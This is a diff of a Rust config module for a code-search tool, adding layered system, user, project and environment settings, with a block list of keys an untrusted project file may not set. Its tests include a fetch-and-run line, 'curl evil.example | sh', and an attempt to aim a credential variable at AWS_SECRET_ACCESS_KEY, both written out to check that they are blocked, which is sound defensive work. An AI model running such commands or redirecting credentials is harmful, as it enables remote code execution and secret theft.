@@ -1,10 +1,65 @@
 use anyhow::Result;
 use serde::{Deserialize, Serialize};
-use std::path::PathBuf;
+use std::collections::BTreeMap;
+use std::fmt;
+use std::path::{Path, PathBuf};
+
+/// Overrides where the machine-wide config is read from.
+pub const SYSTEM_CONFIG_ENV: &str = "CS_SYSTEM_CONFIG";
+
+/// Per-project config, looked up from the working directory to the repository root.
+pub const PROJECT_CONFIG_FILE: &str = ".cs.toml";
+
+/// Keys a project file may not set: a cloned repository mustn't point
+/// `--ask` at another endpoint, hand it a credential, run a command of its
+/// choosing on every search, let clients into a daemon or its repositories,
+/// route requests through a proxy it trusts, start recording the user's
+/// queries or requests, or trust its own metadata extractors.
+const PROJECT_IGNORED_KEYS: &[&str] = &[
+    "llm.url",
+    "llm.api_key_env",
+    "fusion.reranker",
+    "limits",
+    "tenant",
+    "usage",
+    "network",
+    "query_analytics",
+    "trusted_extractor_roots",
+];
+
+/// Keys an environment variable may set, as `CS_` and the key in upper case
+/// with dots as underscores (`llm.model` is `CS_LLM_MODEL`).
+const ENV_KEYS: &[&str] = &[
+    "index_model",
+    "query_model",
+    "default_topk",
+    "default_threshold",
+    "default_hybrid_threshold",
+    "max_typos",
+    "default_search_mode",
+    "default_output_format",
+    "show_scores_default",
+    "line_numbers_default",
+    "rerank_enabled",
+    "rerank_model",
+    "quiet_mode",
+    "query_analytics",
+    "index_segments",
+    "index_location",
+    "llm.url",
+    "llm.model",
+    "llm.api_key_env",
+];
 
 /// User-level configuration stored in system config directory
-/// Location: ~/.config/cs/config.toml (Linux/macOS) or %APPDATA%\cs\config.toml (Windows)
+/// Location: $XDG_CONFIG_HOME/cs/config.toml if set, else ~/.config/cs/config.toml (Linux/macOS) or %APPDATA%\cs\config.toml (Windows)
+///
+/// It is the top of a stack of files merged key by key: machine-wide
+/// defaults (`/etc/cs/config.toml`), then this file, then the project's
+/// `.cs.toml`, then `CS_*` environment variables; command-line flags
+/// override them all. See [`UserConfig::load_layered`].
 #[derive(Debug, Clone, Serialize, Deserialize)]
+#[serde(default)]
 pub struct UserConfig {
     // Model configuration - Hybrid Strategy
     /// Model to use for indexing (default: jina-v4 for large file support)
@@ -20,9 +75,15 @@ pub struct UserConfig {
     /// Default similarity threshold
     pub default_threshold: f32,
 
+    /// Default threshold on the fused (RRF) scores of hybrid search
+    pub default_hybrid_threshold: f32,
+
     /// Default search mode: "regex", "sem", "lex", or "hybrid"
     pub default_search_mode: String,
 
+    /// Edits a lexical search word may be from the word it matches (0 to 2)
+    pub max_typos: u8,
+
     // Output formatting
     /// Default output format: "text", "json", or "jsonl"
     pub default_output_format: String,
@@ -43,6 +104,84 @@ pub struct UserConfig {
     // Other preferences
     /// Quiet mode (suppress status messages)
     pub quiet_mode: bool,
+
+    /// Record searches in the index's `.cs/analytics.jsonl` for `--query-stats`
+    pub query_analytics: bool,
+
+    /// Pack the index into `.cs/segments/` as well as its sidecars, for
+    /// faster loads at the cost of a second copy on disk
+    pub index_segments: bool,
+
+    // Query-time boosting
+    /// `[[boost]]` rules applied to search scores (edit config.toml to change)
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub boost: Vec<cs_core::BoostRule>,
+
+    /// `[[stop_symbol]]` rules demoting or dropping boilerplate chunks
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub stop_symbol: Vec<cs_core::StopSymbolRule>,
+
+    // Remote embedder redaction
+    /// `[[redact]]` rules applied to text sent to remote embedders
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub redact: Vec<cs_core::RedactionRule>,
+
+    // Indexing
+    /// `[[fixture]]` size caps on test fixtures and golden files
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub fixture: Vec<cs_core::FixtureRule>,
+
+    /// Repositories (and the directories under them) whose `.csextract.toml`
+    /// commands may run
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub trusted_extractor_roots: Vec<PathBuf>,
+
+    // Answer synthesis
+    /// `[llm]` endpoint used by `--ask`
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub llm: Option<cs_core::LlmConfig>,
+
+    // Ranking
+    /// `[fusion]` strategy that merges hybrid results, and the reranker after it
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub fusion: Option<cs_core::FusionConfig>,
+
+    /// `[snippets]` policy of the terminal, agents and editors when a search
+    /// doesn't choose one
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub snippets: Option<cs_core::SnippetDefaults>,
+
+    // Daemon maintenance
+    /// `[[schedule]]` rules `--serve` and `--editor-rpc` run index upkeep by
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub schedule: Vec<cs_core::ScheduleRule>,
+
+    /// `[limits]` on daemon clients: query rate, daily quota and API keys
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub limits: Option<cs_core::LimitsConfig>,
+
+    /// `[[tenant]]` repositories one `--editor-socket` daemon serves, by key
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub tenant: Vec<cs_core::TenantConfig>,
+
+    /// `[usage]` aggregated request counts for `cs --usage-export`
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub usage: Option<cs_core::UsageConfig>,
+
+    // Storage
+    /// Where indexes are kept: "repo" (`.cs/` in the repository) or "data"
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub index_location: Option<cs_core::locations::IndexLocation>,
+
+    // Network
+    /// `[network]` proxy and CA certificates for remote providers
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub network: Option<cs_core::network::NetworkConfig>,
+
+    // Path filters
+    /// `[path_matching]` case and accents ignored by path filters
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub path_matching: Option<cs_core::paths::PathMatching>,
 }
 
 impl Default for UserConfig {
@@ -56,7 +195,9 @@ impl Default for UserConfig {
             // Search defaults
             default_topk: 10,
             default_threshold: 0.6,
+            default_hybrid_threshold: 0.02,
             default_search_mode: "regex".to_string(),
+            max_typos: cs_core::DEFAULT_MAX_TYPOS,
 
             // Output defaults
             default_output_format: "text".to_string(),
@@ -69,6 +210,24 @@ impl Default for UserConfig {
 
             // Other defaults
             quiet_mode: false,
+            query_analytics: false,
+            index_segments: false,
+
+            boost: Vec::new(),
+            stop_symbol: Vec::new(),
+            redact: Vec::new(),
+            fixture: Vec::new(),
+            trusted_extractor_roots: Vec::new(),
+            llm: None,
+            fusion: None,
+            snippets: None,
+            schedule: Vec::new(),
+            limits: None,
+            tenant: Vec::new(),
+            usage: None,
+            index_location: None,
+            network: None,
+            path_matching: None,
         }
     }
 }
@@ -76,6 +235,10 @@ impl Default for UserConfig {
 impl UserConfig {
     /// Get the system configuration directory for cc
     pub fn config_dir() -> Result<PathBuf> {
+        // Honored on every platform, not only where it's the native default
+        if let Some(dir) = cs_core::locations::xdg_config_dir() {
+            return Ok(dir);
+        }
         directories::ProjectDirs::from("", "", "cs")
             .map(|dirs| dirs.config_dir().to_path_buf())
             .ok_or_else(|| anyhow::anyhow!("Failed to determine config directory"))
@@ -86,8 +249,67 @@ impl UserConfig {
         Ok(Self::config_dir()?.join("config.toml"))
     }
 
-    /// Load configuration from file, or return defaults if file doesn't exist
+    /// The machine-wide config file, below the user's.
+    pub fn system_config_path() -> Option<PathBuf> {
+        if let Some(path) = std::env::var_os(SYSTEM_CONFIG_ENV).filter(|path| !path.is_empty()) {
+            return Some(PathBuf::from(path));
+        }
+        if cfg!(windows) {
+            std::env::var_os("ProgramData")
+                .map(|dir| PathBuf::from(dir).join("cs").join("config.toml"))
+        } else {
+            Some(PathBuf::from("/etc/cs/config.toml"))
+        }
+    }
+
+    /// The nearest [`PROJECT_CONFIG_FILE`] from `dir` up to the repository root.
+    pub fn project_config_path(dir: &Path) -> Option<PathBuf> {
+        for ancestor in dir.ancestors() {
+            let path = ancestor.join(PROJECT_CONFIG_FILE);
+            if path.is_file() {
+                return Some(path);
+            }
+            if ancestor.join(".git").exists() {
+                break;
+            }
+        }
+        None
+    }
+
+    /// The effective configuration for the working directory: every layer
+    /// merged (see [`UserConfig::load_layered`]).
     pub fn load() -> Result<Self> {
+        let dir = std::env::current_dir().unwrap_or_else(|_| PathBuf::from("."));
+        Ok(Self::load_layered(&dir)?.config)
+    }
+
+    /// The configuration for `dir`, merged from the system, user and project
+    /// files and the environment, with where each value came from.
+    pub fn load_layered(dir: &Path) -> Result<LayeredConfig> {
+        let mut files = Vec::new();
+        if let Some(path) = Self::system_config_path() {
+            files.push(ConfigOrigin::System(path));
+        }
+        files.push(ConfigOrigin::User(Self::config_path()?));
+        if let Some(path) = Self::project_config_path(dir) {
+            files.push(ConfigOrigin::Project(path));
+        }
+
+        let mut layers = Vec::new();
+        for origin in files {
+            let Some(path) = origin.path() else { continue };
+            if !path.is_file() {
+                continue;
+            }
+            let content = std::fs::read_to_string(path)?;
+            layers.push((origin, content));
+        }
+        merge_layers(layers, |var| std::env::var(var).ok())
+    }
+
+    /// Only the user's own config file, or defaults if it doesn't exist.
+    /// `cs --config set` edits this one, whatever the other layers say.
+    pub fn load_user() -> Result<Self> {
         let path = Self::config_path()?;
 
         if path.exists() {
@@ -122,7 +344,11 @@ impl UserConfig {
             "query-model" | "query_model" => Some(self.query_model.clone()),
             "default-topk" | "default_topk" => Some(self.default_topk.to_string()),
             "default-threshold" | "default_threshold" => Some(self.default_threshold.to_string()),
+            "default-hybrid-threshold" | "default_hybrid_threshold" => {
+                Some(self.default_hybrid_threshold.to_string())
+            }
             "default-search-mode" | "default_search_mode" => Some(self.default_search_mode.clone()),
+            "max-typos" | "max_typos" => Some(self.max_typos.to_string()),
             "default-output-format" | "default_output_format" => {
                 Some(self.default_output_format.clone())
             }
@@ -135,6 +361,8 @@ impl UserConfig {
             "rerank-enabled" | "rerank_enabled" => Some(self.rerank_enabled.to_string()),
             "rerank-model" | "rerank_model" => Some(self.rerank_model.clone()),
             "quiet-mode" | "quiet_mode" => Some(self.quiet_mode.to_string()),
+            "query-analytics" | "query_analytics" => Some(self.query_analytics.to_string()),
+            "index-segments" | "index_segments" => Some(self.index_segments.to_string()),
             _ => None,
         }
     }
@@ -162,6 +390,12 @@ impl UserConfig {
                 })?;
                 Ok(())
             }
+            "default-hybrid-threshold" | "default_hybrid_threshold" => {
+                self.default_hybrid_threshold = value.parse().map_err(|_| {
+                    anyhow::anyhow!("Invalid number for default-hybrid-threshold: {}", value)
+                })?;
+                Ok(())
+            }
             "default-search-mode" | "default_search_mode" => {
                 if !["regex", "sem", "lex", "hybrid"].contains(&value) {
                     return Err(anyhow::anyhow!(
@@ -172,6 +406,19 @@ impl UserConfig {
                 self.default_search_mode = value.to_string();
                 Ok(())
             }
+            "max-typos" | "max_typos" => {
+                let typos: u8 = value
+                    .parse()
+                    .map_err(|_| anyhow::anyhow!("Invalid number for max-typos: {}", value))?;
+                if typos > 2 {
+                    return Err(anyhow::anyhow!(
+                        "Invalid max-typos: {}. Must be 0, 1 or 2",
+                        value
+                    ));
+                }
+                self.max_typos = typos;
+                Ok(())
+            }
             "default-output-format" | "default_output_format" => {
                 if !["text", "json", "jsonl"].contains(&value) {
                     return Err(anyhow::anyhow!(
@@ -220,11 +467,226 @@ impl UserConfig {
                     .map_err(|_| anyhow::anyhow!("Invalid boolean for quiet-mode: {}", value))?;
                 Ok(())
             }
+            "query-analytics" | "query_analytics" => {
+                self.query_analytics = value.parse().map_err(|_| {
+                    anyhow::anyhow!("Invalid boolean for query-analytics: {}", value)
+                })?;
+                Ok(())
+            }
+            "index-segments" | "index_segments" => {
+                self.index_segments = value.parse().map_err(|_| {
+                    anyhow::anyhow!("Invalid boolean for index-segments: {}", value)
+                })?;
+                Ok(())
+            }
             _ => Err(anyhow::anyhow!("Unknown configuration key: {}", key)),
         }
     }
 }
 
+/// Where a configuration value came from, lowest precedence first.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum ConfigOrigin {
+    Default,
+    System(PathBuf),
+    User(PathBuf),
+    Project(PathBuf),
+    /// The environment variable that set it
+    Env(String),
+}
+
+impl ConfigOrigin {
+    pub fn path(&self) -> Option<&Path> {
+        match self {
+            Self::System(path) | Self::User(path) | Self::Project(path) => Some(path),
+            Self::Default | Self::Env(_) => None,
+        }
+    }
+}
+
+impl fmt::Display for ConfigOrigin {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        match self {
+            Self::Default => write!(f, "default"),
+            Self::System(path) => write!(f, "system {}", path.display()),
+            Self::User(path) => write!(f, "user {}", path.display()),
+            Self::Project(path) => write!(f, "project {}", path.display()),
+            Self::Env(var) => write!(f, "env {}", var),
+        }
+    }
+}
+
+/// The effective configuration and the layers it was merged from.
+#[derive(Debug, Clone)]
+pub struct LayeredConfig {
+    pub config: UserConfig,
+    /// Every effective value by dotted key (`llm.model`)
+    pub values: BTreeMap<String, toml::Value>,
+    /// The layers that set each key in `values`. The last one's value wins;
+    /// rule lists like `[[boost]]` hold the rules of all of them.
+    pub origins: BTreeMap<String, Vec<ConfigOrigin>>,
+    /// Config files read, lowest precedence first
+    pub files: Vec<ConfigOrigin>,
+}
+
+/// Merge config `layers` (lowest precedence first) over the defaults, then
+/// the environment variables `env` returns.
+fn merge_layers(
+    layers: Vec<(ConfigOrigin, String)>,
+    env: impl Fn(&str) -> Option<String>,
+) -> Result<LayeredConfig> {
+    let mut table = toml::Table::try_from(UserConfig::default())?;
+    let mut origins = BTreeMap::new();
+    for key in flatten(&table, "").into_keys() {
+        origins.insert(key, vec![ConfigOrigin::Default]);
+    }
+
+    let mut files = Vec::new();
+    for (origin, content) in layers {
+        let mut layer: toml::Table = toml::from_str(&content).map_err(|e| {
+            let path = origin.path().unwrap_or(Path::new("config"));
+            anyhow::anyhow!("Failed to parse {}: {}", path.display(), e)
+        })?;
+        if matches!(origin, ConfigOrigin::Project(_)) {
+            for key in PROJECT_IGNORED_KEYS {
+                if remove_dotted(&mut layer, key) {
+                    eprintln!(
+                        "Warning: ignoring `{}` in {}: only system and user config may set it",
+                        key, origin
+                    );
+                }
+            }
+        }
+        merge_table(&mut table, layer, "", &origin, &mut origins);
+        files.push(origin);
+    }
+
+    for key in ENV_KEYS {
+        let var = format!("CS_{}", key.replace('.', "_").to_uppercase());
+        let Some(raw) = env(&var).filter(|raw| !raw.is_empty()) else {
+            continue;
+        };
+        let current = flatten(&table, "").remove(*key);
+        let value = match current {
+            Some(toml::Value::Integer(_)) => toml::Value::Integer(
+                raw.parse()
+                    .map_err(|_| anyhow::anyhow!("Invalid number for {}: {}", var, raw))?,
+            ),
+            Some(toml::Value::Float(_)) => toml::Value::Float(
+                raw.parse()
+                    .map_err(|_| anyhow::anyhow!("Invalid number for {}: {}", var, raw))?,
+            ),
+            Some(toml::Value::Boolean(_)) => toml::Value::Boolean(
+                raw.parse()
+                    .map_err(|_| anyhow::anyhow!("Invalid boolean for {}: {}", var, raw))?,
+            ),
+            _ => toml::Value::String(raw),
+        };
+        let mut layer = toml::Table::new();
+        insert_dotted(&mut layer, key, value);
+        merge_table(&mut table, layer, "", &ConfigOrigin::Env(var), &mut origins);
+    }
+
+    let config: UserConfig = toml::Value::Table(table.clone())
+        .try_into()
+        .map_err(|e| anyhow::anyhow!("Invalid configuration: {}", e))?;
+    Ok(LayeredConfig {
+        config,
+        values: flatten(&table, ""),
+        origins,
+        files,
+    })
+}
+
+/// Merge `layer` into `target` key by key, recording `origin` for each key
+/// it sets. Lists of tables, like `[[boost]]` rules, are appended to.
+fn merge_table(
+    target: &mut toml::Table,
+    layer: toml::Table,
+    prefix: &str,
+    origin: &ConfigOrigin,
+    origins: &mut BTreeMap<String, Vec<ConfigOrigin>>,
+) {
+    for (key, value) in layer {
+        let dotted = if prefix.is_empty() {
+            key.clone()
+        } else {
+            format!("{}.{}", prefix, key)
+        };
+        match value {
+            toml::Value::Table(table) => {
+                if !target.get(&key).is_some_and(toml::Value::is_table) {
+                    target.insert(key.clone(), toml::Value::Table(toml::Table::new()));
+                }
+                if let Some(toml::Value::Table(existing)) = target.get_mut(&key) {
+                    merge_table(existing, table, &dotted, origin, origins);
+                }
+            }
+            toml::Value::Array(items)
+                if !items.is_empty() && items.iter().all(toml::Value::is_table) =>
+            {
+                match target.get_mut(&key) {
+                    Some(toml::Value::Array(existing)) => existing.extend(items),
+                    _ => {
+                        target.insert(key, toml::Value::Array(items));
+                    }
+                }
+                origins.entry(dotted).or_default().push(origin.clone());
+            }
+            value => {
+                target.insert(key, value);
+                origins.entry(dotted).or_default().push(origin.clone());
+            }
+        }
+    }
+}
+
+/// Every value of `table` that isn't itself a table, by dotted key.
+fn flatten(table: &toml::Table, prefix: &str) -> BTreeMap<String, toml::Value> {
+    let mut values = BTreeMap::new();
+    for (key, value) in table {
+        let dotted = if prefix.is_empty() {
+            key.clone()
+        } else {
+            format!("{}.{}", prefix, key)
+        };
+        match value {
+            toml::Value::Table(table) => values.extend(flatten(table, &dotted)),
+            value => {
+                values.insert(dotted, value.clone());
+            }
+        }
+    }
+    values
+}
+
+fn insert_dotted(table: &mut toml::Table, key: &str, value: toml::Value) {
+    match key.split_once('.') {
+        Some((head, rest)) => {
+            let entry = table
+                .entry(head)
+                .or_insert_with(|| toml::Value::Table(toml::Table::new()));
+            if let toml::Value::Table(inner) = entry {
+                insert_dotted(inner, rest, value);
+            }
+        }
+        None => {
+            table.insert(key.to_string(), value);
+        }
+    }
+}
+
+/// Remove `key` from `table`; returns whether it was there.
+fn remove_dotted(table: &mut toml::Table, key: &str) -> bool {
+    match key.split_once('.') {
+        Some((head, rest)) => match table.get_mut(head) {
+            Some(toml::Value::Table(inner)) => remove_dotted(inner, rest),
+            _ => false,
+        },
+        None => table.remove(key).is_some(),
+    }
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -252,6 +714,11 @@ mod tests {
 
         // Test invalid value
         assert!(config.set("default-topk", "not-a-number").is_err());
+
+        // Levenshtein matching goes up to two edits
+        config.set("max-typos", "2").unwrap();
+        assert_eq!(config.get("max_typos"), Some("2".to_string()));
+        assert!(config.set("max-typos", "3").is_err());
     }
 
     #[test]
@@ -265,4 +732,135 @@ mod tests {
         assert!(toml_str.contains("jina-v4"));
         assert!(toml_str.contains("jina-code-1.5b"));
     }
+
+    #[test]
+    fn test_boost_rules_parse() {
+        let mut toml_str = toml::to_string_pretty(&UserConfig::default()).unwrap();
+        toml_str.push_str("\n[[boost]]\npath = \"internal/**\"\nfactor = 1.2\n");
+
+        let config: UserConfig = toml::from_str(&toml_str).unwrap();
+        assert_eq!(config.boost.len(), 1);
+        assert_eq!(config.boost[0].path.as_deref(), Some("internal/**"));
+        assert_eq!(config.boost[0].factor, 1.2);
+    }
+
+    #[test]
+    fn test_redact_rules_parse() {
+        let mut toml_str = toml::to_string_pretty(&UserConfig::default()).unwrap();
+        toml_str
+            .push_str("\n[[redact]]\nidentifiers = [\"AcmeBank\"]\nplaceholder = \"CUSTOMER\"\n");
+
+        let config: UserConfig = toml::from_str(&toml_str).unwrap();
+        assert_eq!(config.redact.len(), 1);
+        assert_eq!(config.redact[0].identifiers, ["AcmeBank"]);
+        assert_eq!(config.redact[0].pattern, None);
+    }
+
+    #[test]
+    fn test_tenants_parse() {
+        let mut toml_str = toml::to_string_pretty(&UserConfig::default()).unwrap();
+        toml_str.push_str(
+            "\n[[tenant]]\nname = \"payments\"\nkey = \"k1\"\nroot = \"/srv/payments\"\ntop_k = 20\n",
+        );
+
+        let config: UserConfig = toml::from_str(&toml_str).unwrap();
+        assert_eq!(config.tenant.len(), 1);
+        assert_eq!(config.tenant[0].root, PathBuf::from("/srv/payments"));
+        assert_eq!(config.tenant[0].top_k, Some(20));
+        assert_eq!(config.tenant[0].api_key().name, "payments");
+    }
+
+    #[test]
+    fn test_llm_config_parse() {
+        let mut toml_str = toml::to_string_pretty(&UserConfig::default()).unwrap();
+        assert!(!toml_str.contains("[llm]"));
+        toml_str.push_str("\n[llm]\nmodel = \"qwen2.5-coder:7b\"\n");
+
+        let config: UserConfig = toml::from_str(&toml_str).unwrap();
+        let llm = config.llm.unwrap();
+        assert_eq!(llm.model.as_deref(), Some("qwen2.5-coder:7b"));
+        assert_eq!(llm.url, None);
+    }
+
+    #[test]
+    fn layers_merge_key_by_key_and_remember_their_origin() {
+        let system = ConfigOrigin::System(PathBuf::from("/etc/cs/config.toml"));
+        let user = ConfigOrigin::User(PathBuf::from("/home/dev/.config/cs/config.toml"));
+        let project = ConfigOrigin::Project(PathBuf::from("/src/app/.cs.toml"));
+        let layers = vec![
+            (
+                system.clone(),
+                "default_topk = 20\nrerank_enabled = true\n\n[[redact]]\nidentifiers = [\"AcmeBank\"]\n\n[llm]\nurl = \"http://llm.internal/v1\"\n".to_string(),
+            ),
+            (
+                user.clone(),
+                "default_topk = 5\n\n[llm]\nmodel = \"qwen2.5-coder:7b\"\n".to_string(),
+            ),
+            (
+                project.clone(),
+                "index_model = \"bge-small\"\nquery_analytics = true\ntrusted_extractor_roots = [\"/src/app\"]\n\n[[redact]]\nidentifiers = [\"Globex\"]\n\n[llm]\nurl = \"https://elsewhere.example\"\napi_key_env = \"AWS_SECRET_ACCESS_KEY\"\n".to_string(),
+            ),
+        ];
+        let env = |var: &str| (var == "CS_DEFAULT_THRESHOLD").then(|| "0.75".to_string());
+
+        let layered = merge_layers(layers, env).unwrap();
+        let config = &layered.config;
+        assert_eq!(config.default_topk, 5);
+        assert!(config.rerank_enabled);
+        assert_eq!(config.index_model, "bge-small");
+        assert_eq!(config.query_model, "jina-code-1.5b");
+        assert_eq!(config.default_threshold, 0.75);
+        // Rules add up; a project can't redirect --ask or its credential
+        assert_eq!(config.redact.len(), 2);
+        let llm = config.llm.as_ref().unwrap();
+        assert_eq!(llm.url.as_deref(), Some("http://llm.internal/v1"));
+        assert_eq!(llm.model.as_deref(), Some("qwen2.5-coder:7b"));
+        assert_eq!(llm.api_key_env, None);
+        // Nor start recording the user's queries
+        assert!(!config.query_analytics);
+        // Nor trust the commands of its own .csextract.toml
+        assert!(config.trusted_extractor_roots.is_empty());
+
+        let origin = |key: &str| layered.origins[key].last().cloned().unwrap();
+        assert_eq!(origin("default_topk"), user);
+        assert_eq!(origin("rerank_enabled"), system);
+        assert_eq!(origin("index_model"), project);
+        assert_eq!(origin("query_model"), ConfigOrigin::Default);
+        assert_eq!(origin("llm.url"), system);
+        assert_eq!(
+            origin("default_threshold"),
+            ConfigOrigin::Env("CS_DEFAULT_THRESHOLD".to_string())
+        );
+        assert_eq!(layered.origins["redact"], vec![system, project]);
+        assert_eq!(layered.files.len(), 3);
+    }
+
+    #[test]
+    fn projects_cannot_set_a_reranker_command() {
+        let user = ConfigOrigin::User(PathBuf::from("/home/dev/.config/cs/config.toml"));
+        let project = ConfigOrigin::Project(PathBuf::from("/src/app/.cs.toml"));
+        let layers = vec![
+            (user, "[fusion]\nk = 30.0\n".to_string()),
+            (
+                project.clone(),
+                "[fusion]\nstrategy = \"weighted\"\nreranker = [\"sh\", \"-c\", \"curl evil.example | sh\"]\n"
+                    .to_string(),
+            ),
+        ];
+        let layered = merge_layers(layers, |_| None).unwrap();
+        let fusion = layered.config.fusion.unwrap();
+        assert!(fusion.reranker.is_empty());
+        // The rest of [fusion] still merges
+        assert_eq!(fusion.k, 30.0);
+        assert_eq!(fusion.strategy, cs_core::FusionStrategy::Weighted);
+        assert_eq!(layered.origins["fusion.strategy"].last(), Some(&project));
+        assert!(!layered.values.contains_key("fusion.reranker"));
+    }
+
+    #[test]
+    fn partial_config_files_keep_defaults() {
+        let config: UserConfig = toml::from_str("default_topk = 3\n").unwrap();
+        assert_eq!(config.default_topk, 3);
+        assert_eq!(config.index_model, "jina-v4");
+    }
 }